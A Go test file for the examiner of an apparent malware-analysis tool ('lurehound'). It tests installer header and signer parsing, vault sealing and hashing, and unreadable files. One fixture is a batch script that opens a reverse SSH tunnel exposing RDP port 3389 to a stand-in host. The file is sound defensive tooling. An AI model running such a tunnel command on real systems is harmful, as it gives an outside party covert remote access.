package examine

import (
	"bytes"
	"context"
	"io"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"go.uber.org/goleak"

	"lurehound"
	"lurehound/internal/lab"
	"lurehound/internal/payload"
	"lurehound/internal/sandbox"
	"lurehound/internal/vault"
)

func TestMain(m *testing.M) {
	if sandbox.Main(Parsers()) {
		return
	}
	goleak.VerifyTestMain(m)
}

func openVault(t testing.TB, limit int64) *vault.Vault {
	t.Helper()
	dir := t.TempDir()
	v, err := vault.Open(filepath.Join(dir, "vault"), filepath.Join(dir, "key"), limit)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { v.Close() })
	return v
}

// The beginning and the certificate table of the campaign's 179 MB tell type, size and signer.
func TestHeadersOfTheFake(t *testing.T) {
	r, size, err := lab.Installer("fake")
	if err != nil {
		t.Fatal(err)
	}
	read := func(at, n int64) payload.Part {
		b := make([]byte, min(n, size-at))
		if _, err := r.ReadAt(b, at); err != nil && err != io.EOF {
			t.Fatal(err)
		}
		return payload.Part{At: at, Bytes: b}
	}
	head := read(0, 64<<10)
	p, want := Examiner{}.Headers(t.Context(), []payload.Part{head}, size, "Setup.exe")
	if p.Type != lurehound.TypePE || want.N == 0 {
		t.Fatalf("%+v wants %v", p, want)
	}
	p, _ = Examiner{}.Headers(t.Context(), []payload.Part{head, read(want.At, want.N)}, size, "Setup.exe")
	if p.Signature.Signer != "Helping Businesses Limited" || p.Signature.Digest != lurehound.DigestUnverified || p.Size != size || p.SHA256 != "" {
		t.Errorf("%+v", p)
	}
}

func TestSealed(t *testing.T) {
	v := openVault(t, 1<<20)
	script := []byte("@echo off\r\nssh -R 7655:localhost:3389 user@192.0.2.7\r\n")
	for _, tt := range []struct {
		name    string
		content []byte
		typ     lurehound.FileType
		problem string
	}{
		{"a.bat", script, lurehound.TypeScript, ""},
		{"large.bin", append(bytes.Repeat([]byte("padding "), 1<<18), 'x'), lurehound.TypeText, "only the first 1048576 of 2097153 bytes"},
	} {
		stored, err := v.Put(t.Context(), bytes.NewReader(tt.content), vault.Meta{Name: tt.name})
		if err != nil {
			t.Fatal(err)
		}
		p := Examiner{}.Sealed(t.Context(), v, stored, tt.name)
		if p.Type != tt.typ || p.SHA256 != stored.SHA256 || p.Size != int64(len(tt.content)) || !strings.Contains(strings.Join(p.Problems, "\n"), tt.problem) || tt.problem == "" && p.MD5 == "" {
			t.Errorf("%s: %+v", tt.name, p)
		}
	}
}

// A file that is gone or was changed is a problem of the facts, and keeps its hash.
func TestSealedThatCannotBeRead(t *testing.T) {
	v := openVault(t, 0)
	stored, err := v.Put(t.Context(), strings.NewReader("MZ"), vault.Meta{})
	if err != nil {
		t.Fatal(err)
	}
	gone := stored
	gone.SHA256 = strings.Repeat("ab", 32)
	for _, s := range []vault.Stored{gone} {
		p := Examiner{}.Sealed(t.Context(), v, s, "x")
		if p.SHA256 != s.SHA256 || len(p.Problems) == 0 || p.Signature.Digest != lurehound.DigestUnverified {
			t.Errorf("%+v", p)
		}
	}
	if _, err := sealed(context.Background(), os.Stdin, []byte("{")); err == nil {
		t.Error("arguments that are none were read")
	}
}
